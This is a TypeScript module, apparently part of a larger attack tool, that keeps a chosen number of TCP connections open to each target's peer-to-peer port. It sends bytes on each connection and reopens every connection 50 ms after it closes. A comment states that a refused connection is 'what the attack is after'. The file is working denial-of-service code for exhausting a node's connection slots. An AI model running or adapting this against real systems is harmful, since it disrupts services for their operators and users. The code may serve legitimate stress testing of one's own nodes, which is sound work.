/** Many TCP connections that send some bytes, stay, and come back when they are closed. */
import { connect } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { sentByAll, type Target } from './attack.ts';

/** The pause before a connection that was closed comes back, milliseconds. */
const PAUSE_MS = 50;

const keepOne = async (
  { p2p: { host, port } }: Target,
  signal: AbortSignal,
  bytes: () => readonly Uint8Array[],
): Promise<number> => {
  let sent = 0;
  while (!signal.aborted) {
    const socket = connect({ host, port });
    const end = (): void => {
      socket.destroy();
    };
    signal.addEventListener('abort', end);
    // A refusal is what the attack is after.
    socket.on('error', () => undefined);
    socket.resume();
    socket.once('connect', () => {
      for (const chunk of bytes()) socket.write(chunk);
    });
    await new Promise((resolve) => socket.once('close', resolve));
    signal.removeEventListener('abort', end);
    sent += socket.bytesWritten;
    await sleep(PAUSE_MS);
  }
  return sent;
};

/** Keeps `count` connections to each target until `signal` aborts. Returns the bytes sent. */
export const keepOpen = async (
  targets: readonly Target[],
  count: number,
  signal: AbortSignal,
  bytes: (target: Target, i: number) => readonly Uint8Array[],
): Promise<number> => {
  const kept = targets.flatMap((target) =>
    Array.from({ length: count }, (_, i) => keepOne(target, signal, () => bytes(target, i))),
  );
  return sentByAll(kept);
};
